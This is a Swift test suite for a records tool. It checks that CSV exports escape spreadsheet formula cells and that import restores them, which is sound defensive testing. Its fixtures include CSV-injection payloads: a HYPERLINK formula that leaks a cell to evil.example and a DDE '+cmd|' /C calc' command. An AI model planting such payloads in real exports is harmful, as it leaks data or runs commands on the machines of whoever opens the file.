import Foundation
import RecTrackTestSupport
import Testing

@testable import RecTrackCore

/// CSV injection (OWASP): every CSV rectrack writes puts a quote before a cell a spreadsheet
/// would run as a formula, keeps plain numbers and dates, and `import` takes the quote off again.
@Suite struct HostileCSVTests {
  let repo: TestRepository
  static let day = [
    "GIT_AUTHOR_DATE": "2022-10-01T10:00:00+01:00", "GIT_COMMITTER_DATE": "2022-10-01T10:00:00+01:00",
  ]

  init() throws {
    repo = try TestRepository()
    let file = """
      id: DP-01
      title: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Click\\")"
      source: "-2+3"
      raised: 2019-10-01
      owner: "+cmd|' /C calc'!A0"
      lead: "@SUM(1+1)"
      due: 2020-09-30
      status: open
      tags: [intelligence]
      description: "=1+1 at the start"
      progress: "'=already quoted by hand"
      score: "-3"

      """
    try repo.write("Recommendations/DP-01.yml", file)
    try repo.commitAll("Add", author: "=cmd <a@example.org>")
  }

  @Test func neutralisingRule() {
    #expect(CSVCell.neutralised("=1+1") == "'=1+1")
    #expect(CSVCell.neutralised("+1+1") == "'+1+1")
    #expect(CSVCell.neutralised("-2+3") == "'-2+3")
    #expect(CSVCell.neutralised("@SUM(A1)") == "'@SUM(A1)")
    #expect(CSVCell.neutralised("\tx") == "'\tx")
    #expect(CSVCell.neutralised("\rx") == "'\rx")
    #expect(CSVCell.neutralised("'=x") == "''=x")
    for plain in ["-3", "+2.5", "-0,75", "2021-03-31", "", "'", "It's fine", "a=b", "-", "--x"] {
      let expected = plain == "-" || plain == "--x" ? "'" + plain : plain
      #expect(CSVCell.neutralised(plain) == expected, "\(plain)")
    }
    for s in ["=1", "'=1", "''@x", "-3", "-", "x", "'x", "\t", "'"] {
      #expect(CSVCell.restored(CSVCell.neutralised(s)) == s, "\(s)")
    }
  }

  @Test func exportListAuditAndProgressCSVAreNeutralisedAndImportRoundTrips() throws {
    let export = try CLI.run(["export", "--format", "csv"], in: repo.path)
    #expect(export.status == 0, "\(export.stderr)")
    let text = export.stdout
    #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""), "\(text)")
    #expect(text.contains(",'+cmd|' /C calc'!A0,"))
    #expect(text.contains(",'-2+3,"))
    #expect(text.contains(",'@SUM(1+1),"))
    #expect(text.contains(",'=1+1 at the start,"))
    #expect(text.contains(",''=already quoted by hand,"))
    #expect(text.contains(",-3,"), "a plain negative number stays a number")
    #expect(text.contains(",2020-09-30,"))

    let list = try CLI.run(["list", "--format", "csv"], in: repo.path)
    #expect(list.stdout.contains("\"'=HYPERLINK("))
    #expect(list.stdout.contains(",'+cmd|"))
    let audit = try CLI.run(["audit", "--format", "csv"], in: repo.path)
    #expect(audit.stdout.contains(",'=cmd,"), "\(audit.stdout)")
    #expect(!audit.stdout.contains(",=cmd,"))

    let out = repo.scratch + "/export.csv"
    #expect(try CLI.run(["export", "--output", out], in: repo.path).status == 0)
    let other = try TestRepository()
    let imported = try CLI.run(
      ["import", out, "--author", "A <a@example.org>"], in: other.path, environment: Self.day)
    #expect(imported.status == 0, "\(imported.stderr)")
    let json = try CLI.run(["show", "DP-01", "--format", "json"], in: other.path)
    let object = try #require(
      try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
    #expect(object["title"] as? String == "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
    #expect(object["owner"] as? String == "+cmd|' /C calc'!A0")
    #expect(object["progress"] as? String == "'=already quoted by hand\n")
    #expect(object["score"] as? String == "-3")
    let back = try CLI.run(["export"], in: other.path)
    #expect(back.stdout == text)
  }
}
